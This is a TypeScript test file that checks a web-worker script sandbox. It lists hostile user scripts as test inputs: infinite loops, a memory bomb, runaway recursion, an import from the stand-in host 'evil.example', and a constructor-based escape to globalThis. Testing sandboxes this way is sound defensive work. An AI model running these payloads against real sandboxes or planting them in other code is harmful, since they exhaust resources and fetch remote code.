import { runScript, type ScriptOutcome, type ScriptRequest } from '@runtime/script'
import { describe, expect, it } from 'vitest'
import { scriptEngine } from './index'

const engine = scriptEngine()

async function run(source: string, time = 200, requests: ScriptRequest[] = []): Promise<ScriptOutcome> {
  const job = { source, time, input: { formData: { a: 1 }, user: {} } }
  const surroundings = {
    apply: () => undefined,
    request: async (request: ScriptRequest) => {
      requests.push(request)
      return null
    },
  }
  return runScript(engine, job, surroundings).outcome
}

/** Ended by the interpreter, or with the worker where the interpreter is busy for long at a stretch. */
const HOSTILE: readonly (readonly [name: string, source: string, reason: string])[] = [
  ['an endless loop', '() => { for (;;) {} }', 'time'],
  ['long steps without end', '() => { for (;;) "x".repeat(1e6) }', 'time'],
  [
    'a chain of promises without end',
    '() => { const go = () => Promise.resolve().then(go); return go() }',
    '',
  ],
  ['a memory bomb', '() => { const all = []; for (;;) all.push(new ArrayBuffer(1e6)) }', ''],
  ['deep recursion', '() => { const f = () => f() + 1; return f() }', 'stack'],
  [
    'recursion of the interpreter itself',
    '() => { let a = []; for (let i = 0; i < 1e5; i++) a = [a]; return a }',
    '',
  ],
  ['a million values', '({ setFormData }) => { for (let i = 0; i < 1e6; i++) setFormData("a" + i, i) }', ''],
  ['a module from elsewhere', '() => import("https://evil.example/x.js")', 'threw'],
]

describe('the sandbox in its worker', () => {
  it.each(HOSTILE)('ends %s, and serves the next', async (_name, source, reason) => {
    expect(await run(source)).toMatchObject({ state: 'failed', ...(reason === '' ? {} : { reason }) })
    expect(await run('({ formData }) => formData.a + 1', 500)).toEqual({ state: 'done', value: 2 })
  })

  it('knows nothing of the worker around it', async () => {
    const names = [
      'self',
      'postMessage',
      'onmessage',
      'fetch',
      'importScripts',
      'XMLHttpRequest',
      'WebSocket',
      'caches',
    ]
    const source = `(p) => ${JSON.stringify(names)}.filter((name) => name in p.setFormData.constructor('return globalThis')())`
    expect(await run(source)).toEqual({ state: 'done', value: [] })
  })

  it('is served with a policy of its own, which lets WebAssembly start and nothing come from elsewhere', async () => {
    const [address = ''] = performance
      .getEntriesByType('resource')
      .map(({ name }) => name)
      .filter((name) => name.includes('sandbox.worker'))
    const policy = (await fetch(address)).headers.get('content-security-policy')
    expect(policy).toBe(
      "default-src 'none'; script-src 'self' 'wasm-unsafe-eval'; connect-src 'self'; worker-src 'none'",
    )
    // The page itself may not.
    await expect(WebAssembly.compile(new Uint8Array([0, 97, 115, 109, 1, 0, 0, 0]))).rejects.toThrow()
  })
})
